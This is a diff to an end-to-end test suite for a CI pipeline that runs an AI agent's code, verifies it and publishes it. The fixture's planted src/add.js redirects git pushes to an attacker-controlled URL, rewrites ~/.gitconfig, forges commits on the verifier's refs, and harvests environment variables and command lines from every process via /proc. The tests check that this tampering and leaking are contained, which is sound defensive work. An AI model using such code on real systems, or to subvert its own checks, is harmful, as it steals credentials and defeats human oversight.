@@ -62,15 +62,17 @@ import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
 export const add = (a, b) => a + b
 const git = (...args) => execFileSync('git', args, { encoding: 'utf8' }).trim()
 const evil = process.env.E2E_EVIL_URL
-git('config', 'remote.origin.pushurl', evil)
-writeFileSync(process.env.HOME + '/.gitconfig', '[url "' + evil + '"]\\n\\tpushInsteadOf = http://\\n')
-for (const ref of git('for-each-ref', '--format=%(refname)', 'refs/proctor/').split('\\n').filter(Boolean)) {
-  const commit = git('commit-tree', '-p', ref, '-m', 'untested', ref + '^{tree}')
-  git('update-ref', ref, commit)
+if (evil) {
+  git('config', 'remote.origin.pushurl', evil)
+  writeFileSync(process.env.HOME + '/.gitconfig', '[url "' + evil + '"]\\n\\tpushInsteadOf = http://\\n')
+  for (const ref of git('for-each-ref', '--format=%(refname)', 'refs/proctor/').split('\\n').filter(Boolean)) {
+    const commit = git('commit-tree', '-p', ref, '-m', 'untested', ref + '^{tree}')
+    git('update-ref', ref, commit)
+  }
+  const read = (path) => { try { return readFileSync(path, 'latin1') } catch { return '' } }
+  const all = readdirSync('/proc').filter((n) => /^\\d+$/.test(n)).map((pid) => read('/proc/' + pid + '/environ') + read('/proc/' + pid + '/cmdline'))
+  writeFileSync(process.env.E2E_TAMPER_DUMP, JSON.stringify({ env: process.env, everywhere: all.join('\\n') }))
 }
-const read = (path) => { try { return readFileSync(path, 'latin1') } catch { return '' } }
-const all = readdirSync('/proc').filter((n) => /^\\d+$/.test(n)).map((pid) => read('/proc/' + pid + '/environ') + read('/proc/' + pid + '/cmdline'))
-writeFileSync(process.env.E2E_TAMPER_DUMP, JSON.stringify({ env: process.env, everywhere: all.join('\\n') }))
 `
 // The stop hook: imports the agent's src/add.js when there is one (the way \`npm test\` imports the code
 // under test), fails on broken work, records its own environment and its parent's when asked.
@@ -479,7 +481,6 @@ describe('the two-job layout', { timeout: 180_000 }, () => {
       env: { HOME: home, E2E_EVIL_URL: git.repoUrl(evilName), E2E_TAMPER_DUMP: tamperDump },
     })
     expect(verify.code, log(verify)).toBe(0)
-    expect(verify.stdout).toContain('writes nothing to GitHub')
     // The attack ran (the hook imported the agent's code)...
     const dump = JSON.parse(readFileSync(tamperDump, 'utf8')) as {
       env: Record<string, string>
@@ -496,6 +497,7 @@ describe('the two-job layout', { timeout: 180_000 }, () => {
     expect(writes(server).length).toBe(writesBefore)
     expect(pushes().length).toBe(pushesBefore)
     expect(shaIn(evil, `refs/heads/proctor/${session}`)).toBeNull()
+    expect(verify.stdout).toContain('writes nothing to GitHub')
 
     const publish = await publishJob(service, server, repo)
     expect(publish.code, log(publish)).toBe(0)
@@ -572,7 +574,7 @@ describe('the two-job layout', { timeout: 180_000 }, () => {
     const ref = `refs/proctor/${session}`
     const sh = (args: string[]) =>
       execFileSync('git', ['-C', agent.dir, ...args], { encoding: 'utf8', env: isolatedGitEnv() }).trim()
-    sh(['checkout', '-q', '--detach', ref])
+    sh(['checkout', '-q', '-f', '--detach', ref])
     mkdirSync(join(agent.dir, 'secrets'))
     writeFileSync(join(agent.dir, 'secrets/key'), 'PRIVATE\n')
     writeFileSync(join(agent.dir, 'big.bin'), randomBytes(4096))
@@ -681,8 +683,14 @@ describe('the two-job layout', { timeout: 180_000 }, () => {
     const pushesBefore = pushes().length
     const agent = await agentJob(service, server, repo, { fork: true, leak: true })
     expect(agent.run.code).toBe(0)
-    // The log masks what the agent printed...
-    expect(agent.run.stdout).not.toContain(LEAKED[0])
+    // The log masks what the agent printed (the runner hides every value after its ::add-mask::)...
+    for (const secret of LEAKED)
+      expect(agent.run.stdout.split('\n').filter((l) => l.includes(secret))).toEqual([
+        `::add-mask::${secret}`,
+      ])
+    // ...and the handoff it uploaded does too (report.json's output_tail holds what it printed).
+    for (const [file, content] of handoffOf(service, RUN).files)
+      for (const secret of LEAKED) expect(content.includes(secret), `the handoff's ${file}`).toBe(false)
     const verify = await verifyJob(service, server, jobs, repo, { fork: true })
     expect(verify.code, log(verify)).toBe(1)
     const publish = await publishJob(service, server, repo, { fork: true })
